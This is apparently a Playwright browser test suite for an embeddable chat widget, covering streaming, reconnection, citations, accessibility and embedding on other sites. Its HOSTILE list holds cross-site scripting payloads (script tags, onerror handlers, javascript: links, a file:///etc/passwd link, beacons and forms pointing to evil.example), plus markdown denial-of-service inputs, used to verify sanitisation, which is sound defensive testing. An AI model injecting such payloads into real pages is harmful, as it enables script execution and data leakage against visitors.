"""The widget in a real browser: what a visitor sees, types and gets back."""

import asyncio
from collections.abc import AsyncIterator

import pytest
import pytest_asyncio
from aiohttp import web
from playwright.async_api import Browser, BrowserContext, Locator, Page, expect

from hub.settings import WebSettings
from tests.browser import chromium
from tests.connectors.web.edges import SOURCE, Bus, HubProcess

pytestmark = pytest.mark.asyncio(loop_scope="module")


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def browser() -> AsyncIterator[Browser]:
    """One browser for all tests here."""
    async with chromium() as running:
        yield running


@pytest_asyncio.fixture(loop_scope="module")
async def hub(bus: Bus) -> AsyncIterator[HubProcess]:
    """Run one process of the hub on the browser's loop."""
    process = HubProcess(bus)
    await process.start()
    yield process
    await process.stop()


@pytest_asyncio.fixture(loop_scope="module")
async def context(browser: Browser) -> AsyncIterator[BrowserContext]:
    """Return a browser profile of its own."""
    profile = await browser.new_context(viewport={"width": 1280, "height": 800})
    profile.set_default_timeout(15_000)
    yield profile
    await profile.close()


@pytest_asyncio.fixture(loop_scope="module")
async def page(context: BrowserContext, hub: HubProcess) -> Page:
    """Open the hub's own page, the chat open as it is on a wide screen."""
    opened = await context.new_page()
    await opened.goto(hub.url)
    await expect(opened.locator(".state")).to_have_text("Online")
    return opened


async def ask(page: Page, bus: Bus, text: str = "Hello") -> str:
    """Type a question, send it and return its turn."""
    await page.get_by_label("Your message").fill(text)
    await page.keyboard.press("Enter")
    return await bus.next_turn()


def answer(page: Page) -> Locator:
    """Return the newest answer."""
    return page.locator(".entry .body").last


async def shown(page: Page) -> str:
    """Return the text of the newest answer to the character."""
    return str(await answer(page).evaluate("node => node.textContent"))


async def wait_for_text(page: Page, text: str) -> None:
    """Wait until the newest answer is exactly this text."""
    await page.wait_for_function(
        "text => [...document.querySelector('hubbub-chat').shadowRoot.querySelectorAll('.entry .body')]"
        ".at(-1)?.textContent === text",
        arg=text,
    )


async def test_answer_grows_while_it_is_generated(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Dots while the hub thinks, then every piece as it comes, then the answer."""
    turn = await ask(page, bus, "How do I connect Telegram?")
    bus.typing(turn)
    await expect(page.locator(".dots")).to_be_visible()
    for text in ("Set ", "the token", " of the bot"):
        bus.say(turn, text)
        await expect(answer(page)).to_have_text(bus.live.texts[turn].strip())
    assert await page.locator(".entry").get_attribute("data-state") == "streaming"
    await hub.answer(turn, "Set the token of the bot.")

    await expect(answer(page)).to_have_text("Set the token of the bot.")
    await expect(page.locator(".visitor .bubble")).to_have_text("You: How do I connect Telegram?")
    assert bus.messages[turn].text == "How do I connect Telegram?"


async def test_sources_stand_under_the_answer(page: Page, hub: HubProcess, bus: Bus) -> None:
    """A citation opens its card: title, heading, the sentences and where they stand."""
    await hub.answer(await ask(page, bus), "Set the token [1], not [2].", SOURCE)

    card = page.locator(".source")
    await expect(card.locator("summary")).to_have_text("1TelegramConnect a bot")
    await expect(card.locator("blockquote")).to_be_hidden()
    await expect(answer(page)).to_have_text("Set the token 1, not [2].")
    await page.get_by_role("button", name="Source 1").click()
    await expect(card.locator("blockquote")).to_have_text(SOURCE.quote)
    await expect(card.locator(".location")).to_have_text("docs/telegram.md")


async def test_conversation_survives_a_reload(page: Page, hub: HubProcess, bus: Bus) -> None:
    """After a reload the page shows what was said, sources included, and can go on."""
    await hub.answer(await ask(page, bus, "First?"), "One. [1]", SOURCE)
    await expect(answer(page)).to_have_text("One. 1")
    await page.reload()

    await expect(page.locator(".visitor .bubble")).to_have_text("You: First?")
    await expect(answer(page)).to_have_text("One. 1")
    await expect(page.locator(".source")).to_have_count(1)
    await hub.answer(await ask(page, bus, "Second?"), "Two.")
    await expect(answer(page)).to_have_text("Two.")
    assert len({message.conversation for message in bus.messages.values()}) == 1


async def test_reload_amid_an_answer_goes_on(page: Page, hub: HubProcess, bus: Bus) -> None:
    """What was generated before the reload is there again, and the rest follows."""
    turn = await ask(page, bus, "Why?")
    bus.say(turn, "Because the ")
    await expect(answer(page)).to_have_text("Because the")
    await page.reload()
    await expect(answer(page)).to_have_text("Because the")
    bus.say(turn, "sky is blue")
    await expect(answer(page)).to_have_text("Because the sky is blue")
    await hub.answer(turn, "Because the sky is blue.")

    await expect(answer(page)).to_have_text("Because the sky is blue.")
    await expect(page.locator(".entry")).to_have_count(1)
    assert len(bus.messages) == 1


async def test_dropped_connections_resume_to_the_character(page: Page, hub: HubProcess, bus: Bus) -> None:
    """The connection is cut again and again amid an answer; the text is exact before the final comes."""
    pieces = [
        "Grüße ",
        "👩‍🚀👍🏽",
        " aus",
        " dem Süden: ",
        "日本語",
        " und",
        " more",
        " 🏳️‍🌈",
        " x" * 20,
        " end",
    ]
    turn = await ask(page, bus)
    for number, piece in enumerate(pieces):
        bus.say(turn, piece)
        if number % 3 == 1:
            hub.cut()
            bus.say(turn, f" [lost {number}]")
            await wait_for_text(page, bus.live.texts[turn])
    await wait_for_text(page, bus.live.texts[turn])

    assert await shown(page) == bus.live.texts[turn]
    await expect(page.locator(".entry")).to_have_count(1)


async def test_turn_that_starts_again_replaces_what_was_shown(page: Page, bus: Bus) -> None:
    """A second worker took over, also while the page was away."""
    turn = await ask(page, bus)
    bus.say(turn, "An attempt that")
    await wait_for_text(page, "An attempt that")
    bus.reset(turn)
    bus.say(turn, "Another one")
    await wait_for_text(page, "Another one")
    bus.live.texts[turn] = ""
    bus.typing(turn)
    bus.say(turn, "The third")
    await wait_for_text(page, "The third")


async def test_attempt_abandoned_during_a_drop_is_replaced(page: Page, hub: HubProcess, bus: Bus) -> None:
    """The page has text of an attempt nobody continues: it is not mixed with the new one."""
    turn = await ask(page, bus)
    bus.say(turn, "The first attempt")
    await wait_for_text(page, "The first attempt")
    hub.cut()
    bus.live.texts[turn] = "A second attempt that is longer than the first"
    await wait_for_text(page, bus.live.texts[turn])


async def test_message_written_without_a_connection_is_sent_once(
    page: Page, hub: HubProcess, bus: Bus
) -> None:
    """It is kept, the state is shown, and when the hub is back it arrives once, in order."""
    await hub.stop()
    await expect(page.locator(".state")).to_have_text("Reconnecting…")
    for text in ("One", "Two"):
        await page.get_by_label("Your message").fill(text)
        await page.keyboard.press("Enter")
    await expect(page.locator(".notice")).to_contain_text("No connection")
    await hub.start()
    turns = [await bus.next_turn(), await bus.next_turn()]
    await hub.answer(turns[1], "Answer")

    await expect(answer(page)).to_have_text("Answer")
    await expect(page.locator(".notice")).to_be_hidden()
    assert [bus.messages[turn].text for turn in turns] == ["One", "Two"]
    assert len(bus.messages) == 2


async def test_lost_acceptance_is_asked_for_again(page: Page, hub: HubProcess, bus: Bus) -> None:
    """The connection dies between storing and `accepted`: one question, one answer on the page."""

    async def cut_after(message: object) -> None:
        bus.before_publish = None
        await bus.publish(message)  # type: ignore[arg-type]
        hub.cut()

    bus.before_publish = cut_after
    turn = await ask(page, bus, "Once")
    await hub.answer(turn, "Here.")

    await expect(answer(page)).to_have_text("Here.")
    await expect(page.locator(".state")).to_have_text("Online")
    await expect(page.locator(".entry")).to_have_count(1)
    assert len(bus.messages) == 1


async def test_many_messages_at_once_arrive_in_order(browser: Browser, bus: Bus) -> None:
    """The hub asks to slow down; the page waits and sends the rest by itself."""
    hub = HubProcess(bus, WebSettings(messages_per_10s=4))
    await hub.start()
    page = await browser.new_page()
    await page.goto(hub.url)
    await page.evaluate("for (let n = 0; n < 6; n += 1) Hubbub.ask(`Number ${n}`)")

    turns = [await bus.next_turn() for _ in range(6)]

    assert [bus.messages[turn].text for turn in turns] == [f"Number {number}" for number in range(6)]
    await page.close()
    await hub.stop()


HOSTILE = (
    "<script>window.pwned = 1</script>",
    '<img src="/x" onerror="window.pwned = 1">',
    "<svg onload='window.pwned = 1'></svg><iframe src='javascript:top.pwned = 1'></iframe>",
    "[click](javascript:window.pwned=1) [tab](java\tscript:window.pwned=1) [J](JaVaScRiPt:window.pwned=1)",
    "[d](data:text/html,<script>window.pwned=1</script>) [v](vbscript:pwned) [f](file:///etc/passwd) [r](/relative)",
    "![pixel](https://evil.example/pixel.png?q=secret) ![](https://evil.example/x)",
    "<style>* { display: none }</style><form action='https://evil.example'><input name=a></form>",
    '[x](https://a.example/"onmouseover="window.pwned=1) `</code><script>window.pwned=1</script>`',
    "```html\n<script>window.pwned = 1</script>\n```",
    "[![a](https://evil.example/a.png)](javascript:window.pwned=1)",
    "<https://ok.example/> <javascript:window.pwned=1> javascript:window.pwned=1",
)


async def test_hostile_answers_are_inert(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Markup of the model or of a document is text; links lead to http, https and mailto alone."""
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    for text in HOSTILE:
        before = await page.locator(".entry[data-state=done]").count()
        await hub.answer(
            await ask(page, bus, text), text, SOURCE.model_copy(update={"quote": text, "title": text})
        )
        await expect(page.locator(".entry[data-state=done]")).to_have_count(before + 1)
        for link in await answer(page).get_by_role("link").all():
            await link.hover()

    root = page.locator(".list")
    forbidden = root.locator(
        "script, img, iframe, style, form, input, object, .body svg:not(.icon), .body [onerror]"
    )
    assert await forbidden.count() == 0
    hrefs = await root.locator("a").evaluate_all("links => links.map(a => [a.protocol, a.rel, a.target])")
    assert hrefs
    assert {tuple(href) for href in hrefs} == {("https:", "noopener nofollow ugc", "_blank")}
    assert await page.evaluate("window.pwned") is None
    assert requests == []


async def test_markdown_becomes_elements(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Paragraphs, emphasis, code, lists, quotes, headings and links look as they should."""
    text = (
        "## Steps\n\nSome **bold**, *italic*, ~~gone~~, `code_with_snake` and snake_case_word.\nNext line.\n\n"
        "1. one\n2. two\n   - inner\n\n> quoted\n\n---\n```py\nprint('<b>')\n```\n"
        "See [the page](https://example.org/a_(b)) or https://example.org/x, or <https://example.org/y>. \\*no\\*"
    )
    await hub.answer(await ask(page, bus), text)
    await expect(answer(page).locator("pre")).to_have_text("print('<b>')")

    def body(selector: str) -> Locator:
        return answer(page).locator(selector)

    await expect(body(".heading strong")).to_have_text("Steps")
    await expect(body("p:not(.heading) > strong")).to_have_text("bold")
    await expect(body("em")).to_have_text("italic")
    await expect(body("s")).to_have_text("gone")
    await expect(body("p > code")).to_have_text("code_with_snake")
    await expect(body("ol > li")).to_have_text(["one", "twoinner"])
    await expect(body("ol ul li")).to_have_text("inner")
    await expect(body("blockquote")).to_have_text("quoted")
    await expect(body("hr")).to_have_count(1)
    assert await body("a").evaluate_all("links => links.map(a => a.href)") == [
        "https://example.org/a_(b)",
        "https://example.org/x",
        "https://example.org/y",
    ]
    await expect(body("p").last).to_contain_text("*no*")


@pytest.mark.parametrize(
    "unit",
    [
        "[",
        "*a ",
        "**",
        "> ",
        "`" * 3 + "\n",
        "[a](",
        "_a_b",
        "- ",
        "![",
        "<http://",
        "#" * 20,
        "(((",
        "a*b_c`",
    ],
)
async def test_markdown_bomb_does_not_stop_the_page(page: Page, hub: HubProcess, bus: Bus, unit: str) -> None:
    """Forty thousand characters made to be slow are drawn while the page stays usable."""
    turn = await ask(page, bus)
    await page.evaluate(
        "window.longest = 0; let last = performance.now();"
        "(function tick() { const now = performance.now(); longest = Math.max(longest, now - last); last = now;"
        " setTimeout(tick, 0) })()"
    )
    await hub.answer(turn, unit * (39_900 // len(unit)) + "\n\nthe end")
    await expect(page.locator(".entry[data-state=done]")).to_have_count(1)

    assert await answer(page).evaluate("node => node.querySelectorAll('*').length") < 2000
    assert await page.evaluate("longest") < 5000


async def test_keyboard_is_enough(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Open, write on two lines, send, close: focus is always where a person expects it."""
    await page.reload()
    await page.get_by_role("button", name="Close chat").last.click()
    launcher = page.get_by_role("button", name="Open chat: Hubbub")
    await expect(launcher).to_be_focused()
    assert await launcher.get_attribute("aria-expanded") == "false"

    await page.keyboard.press("Enter")
    field = page.get_by_label("Your message")
    await expect(field).to_be_focused()
    await page.keyboard.type("Line one")
    await page.keyboard.press("Shift+Enter")
    await page.keyboard.type("line two")
    await page.keyboard.press("Enter")
    turn = await bus.next_turn()
    assert bus.messages[turn].text == "Line one\nline two"
    await hub.answer(turn, "Done [1].", SOURCE)
    await expect(page.locator(".cite")).to_be_visible()
    await page.keyboard.press("Shift+Tab")  # the disabled send button is skipped
    for _ in range(8):
        if (
            await page.evaluate("document.querySelector('hubbub-chat').shadowRoot.activeElement.className")
            == "cite"
        ):
            break
        await page.keyboard.press("Shift+Tab")
    await page.keyboard.press("Enter")
    await expect(page.locator(".source summary")).to_be_focused()
    await page.keyboard.press("Escape")

    await expect(page.get_by_role("dialog")).to_be_hidden()
    await expect(launcher).to_be_focused()


async def test_screen_reader_hears_names_and_whole_answers(page: Page, hub: HubProcess, bus: Bus) -> None:
    """Dialog, log and buttons have names; an answer is read out once, when it is whole."""
    await expect(page.get_by_role("dialog", name="Hubbub")).to_be_visible()
    await expect(page.get_by_role("log", name="Hubbub")).to_have_attribute("aria-live", "off")
    turn = await ask(page, bus)
    bus.say(turn, "Half of ")
    await expect(answer(page)).to_have_attribute("aria-busy", "true")
    spoken = page.locator("[aria-live=polite]")
    await expect(spoken).to_have_text("")
    await hub.answer(turn, "Half of it, and the rest.")

    await expect(spoken).to_have_text("Hubbub: Half of it, and the rest.")
    await expect(answer(page)).to_have_attribute("aria-busy", "false")


async def test_answer_to_a_closed_chat_is_counted(page: Page, hub: HubProcess, bus: Bus) -> None:
    """A badge and the launcher's name tell how many answers wait, also after a reload."""
    turns = [await ask(page, bus, "One"), await ask(page, bus, "Two")]
    await page.keyboard.press("Escape")
    for turn in turns:
        await hub.answer(turn, "Here.")

    await expect(page.locator(".badge")).to_have_text("2")
    await page.set_viewport_size(
        {"width": 1000, "height": 800}
    )  # the page opens the chat on wide screens only
    await page.reload()
    await expect(page.locator(".badge")).to_have_text("2")
    await page.get_by_role("button", name="Open chat: Hubbub, 2 unread").click()
    await expect(page.locator(".badge")).to_be_hidden()


async def test_new_conversation_forgets_the_old_one(page: Page, hub: HubProcess, bus: Bus) -> None:
    """After a question back the page is empty and the next message belongs to somebody new."""
    first = await ask(page, bus)
    await hub.answer(first, "Here.")
    await expect(answer(page)).to_have_text("Here.")
    await page.get_by_role("button", name="New conversation").click()
    await page.get_by_role("button", name="Start over").click()
    await expect(page.locator(".entry")).to_have_count(0)
    await expect(page.locator(".state")).to_have_text("Online")
    second = await ask(page, bus)

    assert bus.messages[first].conversation != bus.messages[second].conversation
    await page.reload()
    await expect(page.locator(".entry")).to_have_count(1)


async def test_token_nobody_knows_starts_a_new_conversation(page: Page, hub: HubProcess, bus: Bus) -> None:
    """A hub with another key refuses the token; the page starts anew instead of failing for ever."""
    await page.evaluate(
        "for (const key of Object.keys(localStorage)) if (key.endsWith('token')) localStorage.setItem(key, '\"v1.x\"')"
    )
    await page.reload()
    await expect(page.locator(".state")).to_have_text("Online")
    await hub.answer(await ask(page, bus), "Hello!")

    await expect(answer(page)).to_have_text("Hello!")


async def test_too_long_a_message_is_not_sent(page: Page, bus: Bus) -> None:
    """The page tells the limit instead of cutting or losing the text."""
    await page.get_by_label("Your message").fill("x" * 8001)
    await page.keyboard.press("Enter")

    await expect(page.locator(".problem")).to_have_text("8001 of 8000 characters")
    await expect(page.get_by_role("button", name="Send message")).to_be_disabled()
    await page.get_by_label("Your message").fill("日" * 7000)
    await expect(page.locator(".problem")).to_have_text("This message is too long")
    assert not bus.messages


async def test_example_questions_are_asked(page: Page, bus: Bus) -> None:
    """A click on the demo page or on a suggestion asks at once."""
    await page.get_by_role("button", name="How do I add documents?").click()
    assert bus.messages[await bus.next_turn()].text == "How do I add documents?"
    await expect(page.locator(".chips")).to_be_hidden()


async def test_page_asks_nobody_else_and_breaks_no_rule(
    context: BrowserContext, hub: HubProcess, bus: Bus
) -> None:
    """All requests go to the hub, and neither the page nor the widget trips over the page's strict policy."""
    page = await context.new_page()
    requests: list[str] = []
    complaints: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.on("websocket", lambda socket: requests.append(socket.url.replace("ws:", "http:")))
    page.on("console", lambda message: complaints.append(message.text))
    page.on("pageerror", lambda error: complaints.append(str(error)))
    await page.goto(hub.url)
    await hub.answer(await ask(page, bus), "**Hello** [1]", SOURCE)
    await expect(answer(page)).to_have_text("Hello 1")

    assert complaints == []
    assert {url.startswith(hub.url) for url in requests} == {True}
    assert f"{hub.url}/ws/chat" in requests


async def test_phone_gets_a_full_sheet(browser: Browser, hub: HubProcess) -> None:
    """On a small screen the chat starts closed and fills the screen when it is opened."""
    page = await browser.new_page(
        viewport={"width": 390, "height": 780}, has_touch=True, is_mobile=True, reduced_motion="reduce"
    )
    await page.goto(hub.url)
    await expect(page.get_by_role("dialog")).to_be_hidden()
    await page.get_by_role("button", name="Open chat").tap()
    box = await page.get_by_role("dialog").bounding_box()

    assert box == {"x": 0, "y": 0, "width": 390, "height": 780}
    assert await page.evaluate("document.documentElement.scrollWidth") == 390
    await page.close()


PAGE = """<!doctype html><title>Shop</title>
<style>* {{ display: inline; color: red !important; font: 40px serif; }} button {{ visibility: hidden }}</style>
<body><p>Shop</p>
<script src="{hub}/widget.js" async data-title="Shop help" data-color="#ffd400" data-position="left"
  data-greeting="Welcome!"></script>"""


@pytest_asyncio.fixture(loop_scope="module")
async def shop(hub: HubProcess) -> AsyncIterator[str]:
    """Serve a page of somebody else, with a policy and styles of its own; return its origin."""
    policy = f"default-src 'none'; script-src {hub.url}; connect-src {hub.url.replace('http', 'ws')}; style-src 'unsafe-inline'"

    async def index(_: web.Request) -> web.Response:
        return web.Response(
            text=PAGE.format(hub=hub.url),
            content_type="text/html",
            headers={"Content-Security-Policy": policy},
        )

    app = web.Application()
    app.add_routes([web.get("/", index)])
    runner = web.AppRunner(app)
    await runner.setup()
    await web.TCPSite(runner, "127.0.0.1", 0).start()
    yield f"http://127.0.0.1:{runner.addresses[0][1]}"
    await runner.cleanup()


async def test_widget_works_on_a_page_of_somebody_else(
    context: BrowserContext, hub: HubProcess, bus: Bus, shop: str
) -> None:
    """One tag: title, colour and side from its attributes, its look untouched by the page's styles."""
    port = hub.port
    await hub.stop()
    allowing = HubProcess(bus, WebSettings(allowed_origins=(shop,)))
    allowing.port = port
    await allowing.start()
    page = await context.new_page()
    await page.goto(shop)
    launcher = page.get_by_role("button", name="Open chat: Shop help")
    box = await launcher.bounding_box()
    await launcher.click()
    await expect(page.locator(".welcome .bubble p")).to_have_text("Welcome!")
    turn = await ask(page, bus)
    await allowing.answer(turn, "Hello!")
    await expect(answer(page)).to_have_text("Hello!")
    style = await page.locator(".visitor .bubble").evaluate(
        "node => { const style = getComputedStyle(node); return [style.backgroundColor, style.color, style.fontSize] }"
    )

    assert box is not None
    assert box["x"] < 100
    assert style == ["rgb(255, 212, 0)", "rgb(20, 20, 31)", "15px"]
    assert bus.messages[turn].address.account == shop
    await allowing.stop()


async def test_page_that_is_not_allowed_gets_no_conversation(
    context: BrowserContext, hub: HubProcess, bus: Bus, shop: str
) -> None:
    """Without its origin in the settings a page never connects, and says so where its owner looks."""
    page = await context.new_page()
    warned = asyncio.Event()
    page.on("console", lambda message: warned.set() if "web.allowed_origins" in message.text else None)
    await page.goto(shop)
    await page.get_by_role("button", name="Open chat: Shop help").click()
    await expect(page.locator(".state")).to_have_text("Reconnecting…")
    async with asyncio.timeout(20):
        await warned.wait()

    assert not bus.messages
